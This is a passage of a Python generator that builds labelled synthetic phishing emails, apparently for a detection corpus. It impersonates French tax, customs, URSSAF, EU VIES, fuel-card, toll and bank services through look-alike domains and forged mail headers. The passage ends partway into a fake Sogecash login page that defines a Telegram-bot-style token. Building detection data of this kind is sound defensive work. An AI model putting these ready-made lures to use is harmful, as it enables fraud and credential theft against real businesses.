            body=Leaf("text/html", html.encode(), "quoted-printable", '; charset="utf-8"'),
            return_path="<ne-pas-repondre@douane-finances-gouv.fr>")


def a_eori_expiration() -> None:
    stem = "b51-phish-eori-expiration"
    t = paris("2025-10-14 09:03:27")
    rcpt = mail("douane")
    track = "https://r.sp1-brevo.net/mk/cl/f/" + b64url(stem + "trk", 96)
    pixel = "https://r.sp1-brevo.net/mk/op/" + b64url(stem + "px", 60)
    html = f"""<!DOCTYPE html><html><head><meta charset="UTF-8"></head><body style="background:#f0f2f5;margin:0">
<table align="center" width="600" style="background:#fff;font-family:Helvetica,Arial,sans-serif;font-size:14px;color:#2b2b2b" cellpadding="0" cellspacing="0">
<tr><td style="background:#1d3b6e;color:#fff;padding:16px 26px;font-size:16px"><b>Registre EORI - Service d'enregistrement</b></td></tr>
<tr><td style="padding:24px 26px;line-height:22px">
<p>Madame, Monsieur,</p>
<p>Le num&eacute;ro EORI <b>FR 48213957400027</b> associ&eacute; &agrave; votre entreprise arrive &agrave; &eacute;ch&eacute;ance de validation le <b>31/10/2025</b>.</p>
<p>Conform&eacute;ment au R&egrave;glement (UE) n&deg; 952/2013, une revalidation est n&eacute;cessaire pour continuer &agrave; d&eacute;poser des d&eacute;clarations d'import et d'export. Sans revalidation, vos op&eacute;rations de d&eacute;douanement pourront &ecirc;tre bloqu&eacute;es.</p>
<p>La proc&eacute;dure prend moins de 5 minutes (frais de traitement : 49,00 &euro; HT).</p>
<p style="text-align:center;margin:26px 0"><a href="{track}" style="background:#e94e1b;color:#fff;padding:12px 26px;text-decoration:none;border-radius:3px">Revalider mon num&eacute;ro EORI</a></p>
<p style="font-size:12px;color:#777">Service d'enregistrement EORI - Assistance aux op&eacute;rateurs &eacute;conomiques</p>
</td></tr>
<tr><td style="padding:12px 26px;font-size:11px;color:#999;background:#fafafa">Vous recevez cet email en tant qu'op&eacute;rateur enregistr&eacute;. <a href="https://r.sp1-brevo.net/mk/un/{b64url(stem + 'un', 40)}" style="color:#999">Se d&eacute;sinscrire</a></td></tr>
</table><img width="1" height="1" src="{pixel}"></body></html>
"""
    plain = strip_tags(html)
    ip = "77.32.148.26"
    helo = "smtp-relay.sendinblue.com"
    headers = "\n".join([
        dkim("service-eori.eu", "brevo1", t, "Content-Type:MIME-Version:Subject:From:To:Date:Message-Id:List-Unsubscribe", stem),
        dkim("sendinblue.com", "mail", t, "Content-Type:MIME-Version:Subject:From:To:Date:Message-Id:List-Unsubscribe:Feedback-ID", stem + "sib"),
        f"Date: {rfc(utc(t))}",
        "From: " + addr("Service EORI", "enregistrement@service-eori.eu"),
        subject("Votre numéro EORI expire le 31/10/2025 - revalidation requise", "UTF-8", "B"),
        f"To: {rcpt}",
        f"Message-Id: <{t.strftime('%Y%m%d%H%M')}.{num(stem + 'm', 10000000000, 99999999999)}@smtp-relay.mailin.fr>",
        f"Origin-messageId: <{t.strftime('%Y%m%d%H%M')}.{num(stem + 'm2', 10000000000, 99999999999)}@smtp-relay.mailin.fr>",
        f"List-Unsubscribe: <https://r.sp1-brevo.net/mk/un/{b64url(stem + 'un', 40)}>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        f"Feedback-ID: 77.32.148.26:{num(stem + 'fb', 1000, 9999)}_-1:{num(stem + 'fb', 1000, 9999)}:Sendinblue",
        f"X-Mailin-EID: {b64url(stem + 'eid', 30)}",
        f"X-sib-id: {b64url(stem + 'sibid', 64)}",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "EORI 'expiration and paid revalidation' scam (EORI numbers do not expire) sent through Brevo from service-eori.eu with a tracked link to a fee-collecting form.",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom="service-eori.eu",
            dkims=[("pass", "service-eori.eu"), ("pass", "sendinblue.com")], from_dom="service-eori.eu",
            dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=alt(plain, html, f"sib_{hx(stem + 'b', 24)}"), return_path=f"<bounces-{num(stem, 100000, 999999)}-{hx(stem + 'rp', 12)}@service-eori.eu>")


def a_impots_credit_tva() -> None:
    stem = "b51-phish-impots-credit-tva"
    t = paris("2025-11-05 10:17:54")
    rcpt = mail("comptable")
    url = "https://www.google.com/amp/s/remboursement-tva-pro.com/espace-professionnel/demande%3Fsiren%3D482139574"
    html = _gouv_html("impots.gouv.fr - Espace professionnel", [
        "Bonjour,",
        "Suite au traitement de votre d&eacute;claration CA3 du 3<sup>e</sup> trimestre, un <b>cr&eacute;dit de TVA de 7 412,00 &euro;</b> "
        "a &eacute;t&eacute; constat&eacute; en faveur de la soci&eacute;t&eacute; KERLANN INDUSTRIES (SIREN 482 139 574).",
        "Pour obtenir le remboursement, la demande (formulaire n&deg; 3519) doit &ecirc;tre valid&eacute;e et les coordonn&eacute;es "
        "bancaires de l'entreprise confirm&eacute;es avant le 12/11/2025.",
        "La Direction g&eacute;n&eacute;rale des Finances publiques",
    ], ("Acc&eacute;der &agrave; mon espace professionnel", url),
        "Ceci est un message automatique, merci de ne pas y r&eacute;pondre. Direction g&eacute;n&eacute;rale des Finances publiques.",
        marianne="https://www.impots.gouv.fr/sites/default/files/media/1_metier/marianne.png")
    host = "vps-4b7e21d0.vps.ovh.net"
    headers = "\n".join([
        postfix_hop("localhost (localhost [127.0.0.1])", host, postfix_qid(stem), rcpt, t, esmtp="ESMTP", cipher=False),
        "From: " + addr("impots.gouv.fr", "ne-pas-repondre@dgfip-remboursements.fr", quote=True),
        f"To: {rcpt}",
        subject("Crédit de TVA en attente de remboursement - action requise"),
        f"Date: {rfc(t)}",
        f"Message-ID: <{hx(stem + 'mid', 20)}.{num(stem, 1000, 9999)}@vps-4b7e21d0.vps.ovh.net>",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "impots.gouv.fr 'crédit de TVA à rembourser' lure from dgfip-remboursements.fr (unsigned, SPF none, OVH VPS) using a google.com/amp redirect to a bank-detail and login harvesting page.",
            t=t, helo=host, ip="51.83.141.203", spf="none", mailfrom="dgfip-remboursements.fr",
            dkims=[("none", None)], from_dom="dgfip-remboursements.fr", dmarc="none", compauth="fail", reason="001",
            headers=headers, body=Leaf("text/html", html.encode(), "quoted-printable", '; charset="utf-8"'),
            return_path="<ne-pas-repondre@dgfip-remboursements.fr>")


def a_urssaf_mise_en_demeure() -> None:
    stem = "b51-phish-urssaf-mise-en-demeure"
    t = paris("2025-12-02 16:41:30")
    rcpt = mail("rh")
    link = "https://urssafpro8c2.z28.web.core.windows.net/?dossier=75Z0412896"
    pdf_bytes = pdf_doc([
        "URSSAF Bretagne", "Service Recouvrement - Cotisations employeurs", "",
        "MISE EN DEMEURE AVANT POURSUITES", "", "Etablissement : KERLANN INDUSTRIES - SIRET 482 139 574 00027",
        "Reference : 75Z0412896", "", "Periode : 10/2025 - Cotisations et contributions sociales",
        "Montant des cotisations restant dues : 18 742,00 EUR", "Majorations de retard : 937,10 EUR", "",
        "Sans regularisation sous 8 jours, une contrainte sera delivree et signifiee", "par commissaire de justice.",
        "", "Pour consulter le detail et regulariser, cliquez sur le bouton ci-dessous.",
    ], "Mise en demeure URSSAF 75Z0412896", link)
    plain = ("Bonjour,\n\nVeuillez trouver ci-joint la mise en demeure relative aux cotisations de la periode 10/2025 "
             "pour votre etablissement.\nMerci d'en prendre connaissance dans les plus brefs delais.\n\n"
             "Service Recouvrement\nURSSAF Bretagne\n")
    body = Multi("mixed", f"----=_Part_{num(stem, 100000, 999999)}_{num(stem + 'b', 100000000, 999999999)}.{num(stem + 'c', 1000000000000, 9999999999999)}", [
        text(plain, "plain", "7bit", "us-ascii"),
        attachment("application/pdf", "Mise_en_demeure_75Z0412896.pdf", pdf_bytes),
    ])
    by = "mo4.mail-out.ovh.net"
    headers = "\n".join([
        fold(f"Received: from mxplan2.mail.ovh.net (unknown [10.109.143.12]) by {by} (Postfix) with ESMTPS id "
             f"{postfix_qid(stem)} for <{rcpt}>; {rfc(utc(t, 1))} (UTC)").replace("\n ", "\n\t"),
        fold(f"Received: from cabinet-lemarchand-expertise.fr (37.59.142.97) by DAG4EX1.mxp2.local (172.16.2.7) with "
             f"Microsoft SMTP Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.1.2507.39; {rfc(t)}").replace("\n ", "\n\t"),
        dkim("cabinet-lemarchand-expertise.fr", "ovhmo3817521-selector1", t,
             "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem),
        "From: " + addr("URSSAF Bretagne - Recouvrement", "accueil@cabinet-lemarchand-expertise.fr", quote=True),
        f"To: {rcpt}",
        subject("Mise en demeure - cotisations 10/2025 - réf. 75Z0412896", "iso-8859-1", "Q"),
        f"Date: {rfc(t)}",
        f"Message-ID: <{hx(stem + 'mid', 8)}-{hx(stem + 'mid2', 4)}-{hx(stem + 'mid3', 4)}-{hx(stem + 'mid4', 4)}-{hx(stem + 'mid5', 12)}@cabinet-lemarchand-expertise.fr>",
        f"X-Ovh-Tracer-Id: {num(stem + 'ovh', 1000000000000000000, 9999999999999999999)}",
        "X-VR-SPAMSTATE: OK",
        "X-VR-SPAMSCORE: 0",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "URSSAF 'mise en demeure' with a PDF whose button links to a static site on Azure web.core.windows.net, sent from a compromised accounting firm's OVH mailbox under an URSSAF display name.",
            t=t, helo=by, ip="87.98.182.114", spf="pass", mailfrom="cabinet-lemarchand-expertise.fr",
            dkims=[("pass", "cabinet-lemarchand-expertise.fr")], from_dom="cabinet-lemarchand-expertise.fr",
            dmarc="pass", compauth="pass", reason="100", headers=headers, body=body, attach=True,
            return_path="<accueil@cabinet-lemarchand-expertise.fr>")


def a_tva_intracom_vies() -> None:
    stem = "b51-phish-tva-intracom-vies"
    t = paris("2026-01-13 11:36:02")
    rcpt = mail("compta")
    url = "https://vies-verification-fr.netlify.app/controle?tva=FR47482139574"
    html = f"""<html><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif;font-size:14px;color:#222;margin:0">
<div style="background:#004494;padding:14px 22px;color:#fff"><img src="https://ec.europa.eu/assets/estat/Images/logo/logo_en.gif" alt="European Commission" height="40"> <span style="font-size:15px;margin-left:10px">VIES - VAT Information Exchange System</span></div>
<div style="padding:22px;max-width:600px;line-height:1.55">
<p>Madame, Monsieur,</p>
<p>Lors du dernier contr&ocirc;le automatique de coh&eacute;rence, votre num&eacute;ro de TVA intracommunautaire <b>FR47 482139574</b> a &eacute;t&eacute; signal&eacute; comme <b>non valide</b> dans le syst&egrave;me VIES (adresse de l'&eacute;tablissement non concordante).</p>
<p>Tant que l'anomalie n'est pas corrig&eacute;e, vos clients et fournisseurs de l'Union europ&eacute;enne ne pourront pas appliquer l'autoliquidation et vos livraisons intracommunautaires seront factur&eacute;es avec TVA.</p>
<p>Merci de confirmer les informations de votre entreprise :</p>
<p><a href="{url}" style="color:#004494;font-weight:bold">Mettre &agrave; jour mes informations VIES &raquo;</a></p>
<p>Direction g&eacute;n&eacute;rale de la fiscalit&eacute; et de l'union douani&egrave;re (TAXUD)</p>
</div></body></html>
"""
    body = alt(strip_tags(html), html, f"----=_NextPart_{hx(stem, 12)}")
    host = "mail.taxud-vies.eu"
    headers = "\n".join([
        postfix_hop("[192.168.10.5] (unknown [194.26.135.44])", host, postfix_qid(stem), rcpt, t, esmtp="ESMTPSA"),
        dkim("taxud-vies.eu", "k1", t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem),
        "From: " + addr("VIES - Commission européenne", "no-reply@taxud-vies.eu"),
        f"To: {rcpt}",
        subject("Numéro de TVA intracommunautaire FR47482139574 : anomalie de validation VIES"),
        f"Date: {rfc(t)}",
        f"Message-ID: <{hx(stem + 'mid', 16)}$${hx(stem + 'mid2', 8)}@taxud-vies.eu>",
        "X-Mailer: Microsoft Outlook 16.0",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "Fake EU VIES notice claiming Kerlann's intra-community VAT number is invalid, from the look-alike taxud-vies.eu, linking to a company-data and login form on netlify.app.",
            t=t, helo=host, ip="194.26.135.44", spf="pass", mailfrom="taxud-vies.eu",
            dkims=[("pass", "taxud-vies.eu")], from_dom="taxud-vies.eu", dmarc="bestguesspass",
            compauth="pass", reason="109", headers=headers, body=body, return_path="<no-reply@taxud-vies.eu>")


# ---------------------------------------------------------------- fuel cards and tolls


def a_totalenergies_fleet() -> None:
    stem = "b51-phish-totalenergies-fleet"
    t = paris("2025-02-19 08:14:50")
    rcpt = mail("parc")
    click = f"https://u4827163.ct.sendgrid.net/ls/click?upn=u001.{b64url(stem + 'upn', 120)}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;background:#f4f4f4">
<table align="center" width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Arial,Helvetica,sans-serif">
<tr><td style="padding:20px 30px;border-bottom:4px solid #ed0000"><img src="https://totalenergies.com/themes/custom/totalenergies/images/logo.png" alt="TotalEnergies" width="170"></td></tr>
<tr><td style="padding:28px 30px;font-size:14px;color:#374649;line-height:22px">
<p style="font-size:18px;color:#285aff;margin-top:0"><b>Vos cartes carburant ont &eacute;t&eacute; suspendues</b></p>
<p>Bonjour,</p>
<p>Dans le cadre du renforcement de la s&eacute;curit&eacute; des paiements (DSP2), <b>3 cartes TotalEnergies Fleet</b> rattach&eacute;es &agrave; votre compte client ont &eacute;t&eacute; temporairement suspendues car les informations du gestionnaire de flotte n'ont pas &eacute;t&eacute; confirm&eacute;es.</p>
<p>Pour r&eacute;activer vos cartes et &eacute;viter tout refus en station, connectez-vous &agrave; votre espace Fleet Online et validez vos informations.</p>
<p style="text-align:center;padding:12px 0"><a href="{click}" style="background:#ed0000;color:#fff;padding:13px 30px;text-decoration:none;font-weight:bold;border-radius:24px">R&eacute;activer mes cartes</a></p>
<p>L'&eacute;quipe TotalEnergies Marketing France - Cartes Carburant</p>
</td></tr>
<tr><td style="padding:16px 30px;font-size:11px;color:#999;background:#f4f4f4">TotalEnergies Marketing France - 562 avenue du Parc de l'&Icirc;le, 92000 Nanterre.</td></tr>
</table>
<img src="https://u4827163.ct.sendgrid.net/wf/open?upn=u001.{b64url(stem + 'open', 90)}" alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important;border-width:0 !important;margin:0 !important;padding:0 !important">
</body></html>
"""
    plain = strip_tags(html).replace(f" [{click}]", "") + f"\nRéactiver mes cartes: {click}\n"
    ip = "149.72.127.45"
    helo = "o1.ptr4872.mail.eventplanr.io"
    headers = "\n".join([
        fold(f"Received: by filterdrecv-6c8f5b7d9-x2kqp with SMTP id filterdrecv-6c8f5b7d9-x2kqp-1-{hx(stem, 8, True)}-{num(stem, 10, 99)} "
             f"{t.astimezone(timezone.utc).strftime('%Y-%m-%d %H:%M:%S')}.{num(stem + 'us', 100000000, 999999999)} +0000 UTC m=+{num(stem + 'm', 100000, 999999)}.{num(stem + 'm2', 100000000, 999999999)}"),
        fold(f"Received: from NDgyNzE2Mw (unknown) by geopod-ismtpd-14 (SG) with HTTP id {b64url(stem + 'geo', 16)} "
             f"{t.astimezone(timezone.utc).strftime('%a, %d %b %Y %H:%M:%S')}.{num(stem + 'us2', 100, 999)} +0000 (UTC)"),
        dkim("eventplanr.io", "s1", t, "content-type:from:mime-version:subject:x-feedback-id:to:cc:content-type:from:subject:to", stem),
        "From: TotalEnergies Fleet <services-cartes@eventplanr.io>",
        "Mime-Version: 1.0",
        subject("Action requise : 3 cartes carburant suspendues sur votre compte", "UTF-8", "Q"),
        f"X-Feedback-ID: {num(stem + 'fid', 10000000, 99999999)}:SG",
        f"X-SG-EID: u001.{b64url(stem + 'eid', 96)}",
        f"X-SG-ID: u001.{b64url(stem + 'sgid', 60)}",
        f"To: {rcpt}",
        "X-Entity-ID: u001." + b64url(stem + "ent", 18),
        f"Date: {rfc(utc(t))}",
        f"Message-ID: <{b64url(stem + 'mid', 16)}@geopod-ismtpd-14>",
    ])
    deliver(stem, "phishing",
            "TotalEnergies Fleet 'cartes carburant suspendues' lure sent through a compromised SendGrid customer account (eventplanr.io), with SendGrid click tracking hiding the credential page.",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom="em4872.eventplanr.io",
            dkims=[("pass", "eventplanr.io")], from_dom="eventplanr.io", dmarc="pass", compauth="pass", reason="100",
            headers=headers, body=alt(plain, html, hx(stem + "bd", 64)),
            return_path=f"<bounces+4827163-{hx(stem + 'rp', 4)}-{rcpt.replace('@', '=')}@em4872.eventplanr.io>")


def a_ulys_prelevement() -> None:
    stem = "b51-phish-ulys-prelevement"
    t = paris("2025-03-27 19:52:16")
    rcpt = mail("parc")
    url = "https://bit.ly/ulys-regul-4kQ9"
    plain = ("Ulys by VINCI Autoroutes\n\nBonjour,\n\nLe prélèvement de votre dernière facture de péage n'a pas pu être effectué"
             " (motif : coordonnées bancaires expirées).\nVos badges Ulys seront désactivés le 31/03/2025 si la situation n'est pas"
             " régularisée.\n\nMontant à régulariser : 5,90 € (frais de rejet)\n\nRégulariser maintenant : " + url +
             "\n\nL'équipe Ulys\n")
    html = f"""<div style="font-family:Arial,sans-serif;font-size:14px;color:#003a70;max-width:560px">
<p style="font-size:20px;font-weight:bold;color:#0064b0">Ulys <span style="font-size:12px;color:#666">by VINCI Autoroutes</span></p>
<p>Bonjour,</p>
<p>Le pr&eacute;l&egrave;vement de votre derni&egrave;re facture de p&eacute;age n'a pas pu &ecirc;tre effectu&eacute; (motif : coordonn&eacute;es bancaires expir&eacute;es).</p>
<p>Vos badges Ulys seront <b>d&eacute;sactiv&eacute;s le 31/03/2025</b> si la situation n'est pas r&eacute;gularis&eacute;e.</p>
<p>Montant &agrave; r&eacute;gulariser : <b>5,90 &euro;</b> (frais de rejet)</p>
<p><a href="{url}" style="background:#ffcd00;color:#003a70;padding:10px 20px;text-decoration:none;font-weight:bold">R&eacute;gulariser maintenant</a></p>
<p>L'&eacute;quipe Ulys</p></div>
"""
    ip = "40.92.66.19"
    helo = "EUR02-VI1-obe.outbound.protection.outlook.com"
    server = "DU0PR08MB9155.eurprd08.prod.outlook.com"
    hop, _, _, sigs = m365_sender(stem, t, "hotmail.com", server, rcpt)
    headers = "\n".join([
        hop,
        sigs,
        "From: " + addr("Ulys Service Client", "ulys.serviceclient.fr@hotmail.com"),
        f"To: {rcpt}",
        subject("Échec de prélèvement - vos badges Ulys seront désactivés", "utf-8", "B"),
        "Thread-Topic: Echec de prelevement",
        "Thread-Index: " + thread_index(stem, t, 0),
        f"Date: {rfc(utc(t))}",
        f"Message-ID: {outlook_msgid(stem, server)}",
        "Accept-Language: fr-FR, en-US",
        "Content-Language: fr-FR",
        "X-MS-Has-Attach:",
        "X-MS-TNEF-Correlator:",
        "x-ms-exchange-messagesentrepresentingtype: 1",
        "x-ms-publictraffictype: Email",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "Ulys toll-badge 'échec de prélèvement, badges désactivés' lure sent from a free hotmail.com mailbox, with a bit.ly link to a card-payment page for a 5,90 EUR fee.",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom="hotmail.com", dkims=[("pass", "hotmail.com")],
            from_dom="hotmail.com", dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=alt(plain, html, f"_000_{server.split('.')[0]}{hx(stem + 'b', 20, True)}_"),
            return_path="<ulys.serviceclient.fr@hotmail.com>")


def a_dkv_cockpit_de() -> None:
    stem = "b51-phish-dkv-cockpit-de"
    t = paris("2025-05-21 06:48:33")
    rcpt = mail("parc")
    url = "https://dkv-cockpit-verifizierung.vercel.app/login?kd=" + hx(stem + "kd", 10)
    html = f"""<html><head><meta charset="utf-8"></head>
<body style="margin:0;padding:0;background:#ebeef0">
<table role="presentation" width="100%"><tr><td align="center">
<table role="presentation" width="600" style="background:#fff;font-family:Arial,Helvetica,sans-serif;color:#1d1d1b;font-size:14px">
<tr><td style="background:#003f7d;padding:18px 26px"><img src="https://www.dkv-mobility.com/typo3conf/ext/dkv_site/Resources/Public/Images/logo.svg" alt="DKV Mobility" width="150"></td></tr>
<tr><td style="padding:26px;line-height:22px">
<p>Sehr geehrte Kundin, sehr geehrter Kunde,</p>
<p>bei einer routinem&auml;&szlig;igen Sicherheitspr&uuml;fung wurden ungew&ouml;hnliche Anmeldeversuche in Ihrem <b>DKV Cockpit</b>-Konto festgestellt. Zu Ihrem Schutz wurden Ihre DKV CARDs vor&uuml;bergehend eingeschr&auml;nkt.</p>
<p>Bitte best&auml;tigen Sie Ihre Zugangsdaten innerhalb von 48 Stunden, um die vollst&auml;ndige Nutzung Ihrer Karten wiederherzustellen.</p>
<p style="margin:26px 0"><a href="{url}" style="background:#d0021b;color:#ffffff;text-decoration:none;padding:12px 26px;font-weight:bold">Jetzt verifizieren</a></p>
<p>Mit freundlichen Gr&uuml;&szlig;en<br>Ihr DKV Mobility Kundenservice</p>
</td></tr>
<tr><td style="padding:14px 26px;background:#f4f6f7;font-size:11px;color:#777">DKV Mobility Services Group GmbH, Balcke-D&uuml;rr-Allee 3, 40882 Ratingen</td></tr>
</table></td></tr></table></body></html>
"""
    host = "mail.dkv-mobility-service.de"
    headers = "\n".join([
        postfix_hop("[127.0.0.1] (localhost [127.0.0.1])", host, postfix_qid(stem), rcpt, t, esmtp="ESMTPSA", cipher=False),
        dkim("dkv-mobility-service.de", "mail", t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem),
        "From: DKV Mobility <kundenservice@dkv-mobility-service.de>",
        f"To: {rcpt}",
        subject("Wichtig: Sicherheitsüberprüfung Ihres DKV Cockpit-Kontos", "UTF-8", "Q"),
        f"Date: {rfc(t)}",
        f"Message-ID: <{hx(stem + 'mid', 32)}@dkv-mobility-service.de>",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "German DKV Mobility 'security check, cards restricted' lure from the look-alike dkv-mobility-service.de (Hetzner VPS) linking to a DKV Cockpit credential page on vercel.app.",
            t=t, helo=host, ip="168.119.82.201", spf="pass", mailfrom="dkv-mobility-service.de",
            dkims=[("pass", "dkv-mobility-service.de")], from_dom="dkv-mobility-service.de", dmarc="bestguesspass",
            compauth="pass", reason="109", headers=headers,
            body=Leaf("text/html", html.encode(), "quoted-printable", '; charset=utf-8'),
            return_path="<kundenservice@dkv-mobility-service.de>")


def a_as24_prelevement_sepa() -> None:
    stem = "b51-phish-as24-prelevement-sepa"
    t = paris("2025-06-24 13:09:58")
    rcpt = mail("compta")
    url = "https://as24-espace-client.notion.site/Mandat-SEPA-AS24-" + hx(stem + "n", 32)
    plain = ("Bonjour,\n\nNous vous informons que votre facture AS24 n° 25FA061188 du 15/06/2025 (montant : 4 916,37 € TTC) n'a pas pu être"
             " prélevée, votre mandat SEPA n'étant plus valide suite à la migration de notre plateforme de paiement.\n\n"
             "Afin d'éviter la suspension de vos cartes AS24, merci de compléter le nouveau mandat de prélèvement en ligne :\n"
             f"{url}\n\nCordialement,\n\nService Clients AS24\n")
    ip = "80.12.242.76"
    helo = "smtp.smtpout.orange.fr"
    headers = "\n".join([
        fold(f"Received: from [192.168.1.17] ([90.27.114.201]) by smtp.orange.fr with ESMTPA id {b64url(stem + 'or', 10)}; "
             f"{rfc(t)}").replace("\n ", "\n\t"),
        dkim("orange.fr", "t20230301", t, "Message-ID:Date:MIME-Version:From:Subject:To:Content-Type", stem, c="relaxed/relaxed"),
        "X-ME-Helo: [192.168.1.17]",
        "X-ME-Auth: bS5sZWZldXZyZTM1QG9yYW5nZS5mcg==",
        f"X-ME-Date: {rfc(t)}",
        "X-ME-IP: 90.27.114.201",
        f"Message-ID: <{hx(stem + 'mid', 8)}-{hx(stem + 'mid2', 4)}-{hx(stem + 'mid3', 4)}-{hx(stem + 'mid4', 4)}-{hx(stem + 'mid5', 12)}@orange.fr>",
        f"Date: {rfc(t)}",
        "MIME-Version: 1.0",
        "User-Agent: Mozilla Thunderbird",
        "Content-Language: fr",
        "From: " + addr("AS24 Service Clients", "m.lefeuvre35@orange.fr"),
        subject("Facture AS24 25FA061188 - rejet de prélèvement / nouveau mandat SEPA", "UTF-8", "Q"),
        f"To: {rcpt}",
    ])
    deliver(stem, "phishing",
            "AS24 fuel-card 'rejet de prélèvement, nouveau mandat SEPA' lure from a compromised personal orange.fr mailbox, linking to a Notion page that collects bank details.",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom="orange.fr", dkims=[("pass", "orange.fr")],
            from_dom="orange.fr", dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=Leaf("text/plain", plain.encode(), "8bit", '; charset=UTF-8; format=flowed'),
            return_path="<m.lefeuvre35@orange.fr>")


# ---------------------------------------------------------------- banks and factoring


def a_ca_securipass() -> None:
    stem = "b51-phish-ca-securipass"
    t = paris("2025-08-05 07:58:21")
    rcpt = mail("daf")
    url = "https://is.gd/CA35secur"
    plain = ("Crédit Agricole Ille-et-Vilaine\n\nMadame, Monsieur,\n\nSuite à l'évolution de la réglementation européenne sur"
             " l'authentification forte, l'activation de Sécuripass sur votre accès Crédit Agricole En Ligne Entreprises"
             " devient obligatoire à compter du 08/08/2025.\n\nSans activation, les virements et la consultation de vos comptes"
             " professionnels seront restreints.\n\nActiver Sécuripass : " + url + "\n\nNous vous remercions de votre confiance.\n"
             "Votre Conseiller Entreprises\n")
    ip = "40.92.58.103"
    helo = "EUR05-AM6-obe.outbound.protection.outlook.com"
    hop, _, _, sigs = m365_sender(stem, t, "outlook.fr", "AS8P251MB0823.EURP251.PROD.OUTLOOK.COM", rcpt)
    headers = "\n".join([
        hop, sigs,
        "From: " + addr("Crédit Agricole Entreprises", "ca-entreprises-securite@outlook.fr"),
        f"To: {rcpt}",
        subject("Activation Sécuripass obligatoire avant le 08/08/2025", "iso-8859-1", "Q"),
        "Thread-Topic: Activation Securipass obligatoire avant le 08/08/2025",
        "Thread-Index: " + thread_index(stem, t, 0),
        f"Date: {rfc(utc(t))}",
        f"Message-ID: {outlook_msgid(stem, 'AS8P251MB0823.EURP251.PROD.OUTLOOK.COM')}",
        "Accept-Language: fr-FR, en-US",
        "Content-Language: fr-FR",
        "X-MS-Has-Attach:",
        "X-MS-TNEF-Correlator:",
        "msip_labels:",
        "x-ms-publictraffictype: Email",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "Short plain Crédit Agricole 'activation Sécuripass obligatoire' lure from a free outlook.fr mailbox with an is.gd short link to a banking credential page.",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom="outlook.fr", dkims=[("pass", "outlook.fr")],
            from_dom="outlook.fr", dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=Leaf("text/plain", plain.encode("latin-1"), "quoted-printable", '; charset="iso-8859-1"'),
            return_path="<ca-entreprises-securite@outlook.fr>")


def a_bnp_rappel_fraude() -> None:
    stem = "b51-phish-bnp-rappel-fraude"
    t = paris("2025-09-23 17:26:44")
    rcpt = mail("daf")
    lines = [
        "Madame Le Goff,",
        "",
        "Notre service de surveillance a bloqué ce jour une demande de virement SEPA de 9 840,00 EUR émise depuis votre abonnement"
        " BNP Paribas Net Entreprises vers un bénéficiaire nouvellement ajouté (LT91 3250 0312 0145 7763).",
        "",
        "Si vous n'êtes pas à l'origine de cette opération, merci de contacter sans délai notre cellule de prévention des fraudes"
        " au 01 84 60 17 92 (du lundi au vendredi, 8h30-19h) afin de sécuriser vos accès. Munissez-vous de votre identifiant"
        " client et de votre téléphone.",
        "",
        "Pour votre sécurité, ne communiquez jamais vos codes par e-mail.",
        "",
        "Cordialement,",
        "Service Sécurité - BNP Paribas Entreprises",
    ]
    plain = "\n".join(lines) + "\n"
    html = gmail_html(lines)
    hop, host, ip, sigs = gmail_parts(stem, t, rcpt, "securite.bnpp.entreprises@gmail.com")
    headers = "\n".join([
        hop, sigs,
        "MIME-Version: 1.0",
        "From: " + addr("BNP Paribas - Service Sécurité", "securite.bnpp.entreprises@gmail.com", "UTF-8"),
        f"Date: {rfc(t)}",
        f"Message-ID: {gmail_msgid(stem)}",
        subject("Alerte sécurité : tentative de virement bloquée sur votre compte professionnel", "UTF-8", "Q"),
        f"To: {rcpt}",
    ])
    deliver(stem, "phishing",
            "Callback scam: a BNP Paribas 'virement bloqué, appelez notre cellule fraude' alert from a gmail.com address with no link, only a phone number that leads to a fake bank advisor.",
            t=t, helo=host, ip=ip, spf="pass", mailfrom="gmail.com", dkims=[("pass", "gmail.com")], from_dom="gmail.com",
            dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=alt(plain, html, f"000000000000{hx(stem + 'b', 16)}", "quoted-printable", "UTF-8"),
            return_path="<securite.bnpp.entreprises@gmail.com>")


def a_sogecash_html() -> None:
    stem = "b51-phish-sogecash-html"
    t = paris("2025-10-28 08:41:09")
    rcpt = mail("daf")
    bot = f"{num(stem + 'bot', 6000000000, 7999999999)}:AAH{b64url(stem + 'tok', 24)[:32]}"
    page = f"""<!DOCTYPE html>
<html lang="fr"><head><meta charset="UTF-8"><meta name="viewport" content="width=device-width, initial-scale=1.0">
<title>Sogecash Net - Authentification</title>
<style>
body{{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f3f3f3}}
.top{{background:#000;height:64px;display:flex;align-items:center;padding:0 30px}}
.top span{{display:inline-block;width:28px;height:28px;background:linear-gradient(#e9041e 50%,#000 50%);border:1px solid #fff;margin-right:12px}}
.box{{max-width:420px;margin:50px auto;background:#fff;padding:34px;box-shadow:0 1px 6px rgba(0,0,0,.15)}}
input{{width:100%;padding:11px;margin:8px 0 16px;border:1px solid #bbb;box-sizing:border-box}}
button{{width:100%;padding:13px;background:#e9041e;color:#fff;border:0;font-weight:bold;cursor:pointer}}
</style></head><body>
